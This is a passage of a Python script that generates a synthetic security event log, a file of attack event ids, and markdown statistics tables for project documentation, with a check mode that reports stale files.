             f"- attack window: `{attack_rows[0][0]['@timestamp']}` – last attacker-session event "
             f"`{max(d['@timestamp'] for d, a in attack_rows if a.get('step') != '3 Fileless implant')}`; "
             f"implant beacons continue until `{attack_rows[-1][0]['@timestamp']}`",
             "", "| category | events |", "|---|---|"]
    stats += [f"| {c} | {n} |" for c, n in sorted(by_cat.items())]
    stats += ["", "| event.action | all events | attack events |", "|---|---|---|"]
    stats += [f"| {a} | {n} | {att_action.get(a, 0)} |" for a, n in sorted(by_action.items())]
    return table, "\n".join(stats)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--check", action="store_true", help="verify the files on disk are up to date")
    args = ap.parse_args()
    w, docs, lines, attack_rows = build()
    log = "\n".join(lines) + "\n"
    ids = "".join(d["event"]["id"] + "\n" for d, _ in attack_rows)
    nbytes = len(log.encode())
    if nbytes > 99_200_000:
        raise SystemExit(f"log too large: {nbytes} bytes")
    table, stats = doc_blocks(docs, attack_rows, nbytes)
    looks = lookalike_block(docs, [ev.attack is not None for ev in w.events])
    doc_text = None
    if DOC.exists():
        doc_text = DOC.read_text()
        doc_text = replace_block(doc_text, "attack-table", table)
        doc_text = replace_block(doc_text, "lookalikes", looks)
        doc_text = replace_block(doc_text, "stats", stats)
    if args.check:
        stale = [str(p.relative_to(REPO)) for p, want in ((OUT_LOG, log), (OUT_IDS, ids), (DOC, doc_text))
                 if want is not None and (not p.exists() or p.read_text() != want)]
        if stale:
            print("out of date (run scripts/gen_sample_log.py): " + ", ".join(stale), file=sys.stderr)
            return 1
        print(f"sample data up to date: {len(docs)} events, {len(attack_rows)} attack events")
        return 0
    OUT_LOG.parent.mkdir(parents=True, exist_ok=True)
    OUT_LOG.write_text(log)
    OUT_IDS.write_text(ids)
    if doc_text is not None:
        DOC.write_text(doc_text)
    else:
        print(f"note: {DOC.relative_to(REPO)} not found; generated doc blocks not written", file=sys.stderr)
    print(f"wrote {OUT_LOG.relative_to(REPO)}: {len(docs)} events ({len(attack_rows)} attack), {nbytes} bytes")
    print(f"wrote {OUT_IDS.relative_to(REPO)}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
